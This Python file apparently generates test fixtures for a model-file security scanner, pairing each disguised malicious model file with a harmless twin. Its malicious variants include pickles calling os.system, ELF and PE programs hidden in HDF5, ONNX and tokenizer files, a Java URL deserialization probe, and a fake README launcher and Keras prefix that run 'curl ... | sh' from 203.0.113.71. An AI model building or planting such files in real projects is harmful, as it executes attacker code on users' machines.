"""Polyglots, extensions that lie and programs beside or inside of model files."""
import io
import json
import struct
import zipfile

from assembly import call, dot, glob, model, pickle
from pair import SHELL
from twelfth.binaries import elf, pe
from twelfth.torches import legacy
from twelfth.weights import random


def torch_zip(value):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("archive/data.pkl", pickle(value, 2))
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/version", "3\n")
    return out.getvalue()


def hdf5(block):
    import h5py

    out = io.BytesIO()
    with h5py.File(out, "w", userblock_size=1024) as f:
        f["dense/kernel"] = random(64).reshape(8, 8)
    return block.ljust(1024, b"\0") + out.getvalue()[1024:]


def onnx_extra(data):
    from onnx import helper

    graph = helper.make_graph([helper.make_node("Relu", ["x"], ["y"])], "g", [helper.make_tensor_value_info("x", 1, ["n", 4])], [helper.make_tensor_value_info("y", 1, ["n", 4])])
    body = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=9).SerializeToString()

    def varint(n):
        out = b""
        while n > 127:
            out, n = out + bytes([n & 127 | 128]), n >> 7
        return out + bytes([n])

    return body + varint(1000 << 3 | 2) + varint(len(data)) + data


def utf(text):
    return struct.pack(">H", len(text)) + text.encode()


def java_map(key, value):
    """A java.util.HashMap of one entry by the Java Object Serialization Specification, 6.4."""
    head = b"\xac\xed\x00\x05sr" + utf("java.util.HashMap") + bytes.fromhex("0507dac1c31660d1") + b"\x03\x00\x02F" + utf("loadFactor") + b"I" + utf("threshold")
    return head + b"xp" + struct.pack(">fI", 0.75, 12) + b"w\x08" + struct.pack(">II", 16, 1) + key + value + b"x"


def java_url(host):
    text = lambda s: b"t" + utf(s)
    fields = [("I", "hashCode"), ("I", "port"), ("L", "authority"), ("L", "file"), ("L", "host"), ("L", "protocol"), ("L", "ref")]
    out = b"sr" + utf("java.net.URL") + bytes.fromhex("962537361afce472") + b"\x03" + struct.pack(">H", len(fields))
    first = True
    for kind, name in fields:
        out += kind.encode() + utf(name)
        if kind == "L":
            out += text("Ljava/lang/String;") if first else b"q" + struct.pack(">I", 0x7E0003)
            first = False
    return out + b"xp" + struct.pack(">iI", -1, 0xFFFFFFFF) + text(host) + text("/") + text(host) + text("http") + b"px"


def java_double(value):
    out = b"sr" + utf("java.lang.Double") + bytes.fromhex("80b3c24a296bfb04") + b"\x02\x00\x01D" + utf("value") + b"x"
    return out + b"r" + utf("java.lang.Number") + bytes.fromhex("86ac951d0b94e08b") + b"\x02\x00\x00xp" + struct.pack(">d", value)


def add(out):
    out.add(
        "everywhere", "stream-before-zip", legacy([call(dot("logging", "os", "system"), SHELL)], torch_zip({"epoch": 3})), legacy([], torch_zip({"epoch": 3})),
        prove="twelfth-torch", file="model.pt",
        why="torch reads the old stream at the front, whose last pickle runs a command; a reader that looks for a zip finds a harmless model at the end",
    )
    out.add(
        "everywhere", "user-block-program", hdf5(elf()), hdf5(b"Trained 2026-05-01 on 8 devices; see card.md.\n"), file="weights.h5",
        why="the user block before the HDF5 signature is an ELF program: the file is valid weights and can be executed",
    )
    out.add(
        "everywhere", "npy-is-pickle", pickle(model(call(dot("tarfile", "os", "system"), SHELL))), pickle(model(call(glob("datetime", "timedelta"), 3))), prove="numpy", file="embeddings.npy",
        why="no numpy magic: np.load with allow_pickle falls back to unpickling the file, which runs a command",
    )
    license = (b"Permission is granted to use this model for research. " * 30)[: len(pe())]
    out.add(
        "everywhere", "unknown-field-program", onnx_extra(pe()), onnx_extra(license), file="model.onnx",
        why="a field that ONNX does not know, and readers skip, holds a whole Windows program; the twin's holds a licence",
    )
    out.add(
        "everywhere", "java-url-map", java_map(java_url("m7.collect.example"), b"t" + utf("x")), java_map(b"t" + utf("accuracy"), java_double(0.93)), file="classifier.model",
        why="a Weka-style model in Java serialization whose map is keyed by a URL: reading it asks a foreign name server, the known probe that the host deserializes; not run, it uses the network",
    )
    entry = "[Desktop Entry]\nType=Application\nName=README - how to run this model\nIcon=text-markdown\nTerminal=false\nExec={}\n"
    card = "# Tiny classifier\n\nDouble-click `README.desktop` to see the documentation.\n"
    out.add(
        "everywhere", "desktop-launcher",
        {"README.desktop": entry.format("sh -c \"curl -fsSL http://203.0.113.71/i.sh | sh; xdg-open README.md\""), "README.md": card},
        {"README.desktop": entry.format("xdg-open README.md"), "README.md": card},
        why="a launcher dressed as a text fetches a script from a bare address and runs it before it shows the text",
    )
    pieces = b"".join(b"\x0a" + bytes([len(p) + 7]) + b"\x0a" + bytes([len(p)]) + p + b"\x15" + struct.pack("<f", -i) for i, p in enumerate([b"<unk>", b"<s>", b"</s>", b"_a", b"_b"]))
    out.add(
        "everywhere", "tokenizer-program", {"tokenizer.model": elf(), "config.json": json.dumps({"model_type": "llama"})}, {"tokenizer.model": pieces, "config.json": json.dumps({"model_type": "llama"})},
        why="the tokenizer of the model is an ELF program under another name",
    )
    keras = io.BytesIO()
    with zipfile.ZipFile(keras, "w") as z:
        z.writestr("metadata.json", '{"keras_version": "3.11.0"}')
        z.writestr("config.json", '{"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": []}}')
    out.add(
        "everywhere", "script-before-zip", b"#!/bin/sh\ncurl -fsSL http://203.0.113.71/i.sh | sh\nexit 0\n" + keras.getvalue(), keras.getvalue(), file="model.keras",
        why="a shell script before a valid Keras archive: zip readers skip it, the shell runs it, and it fetches and runs another",
    )
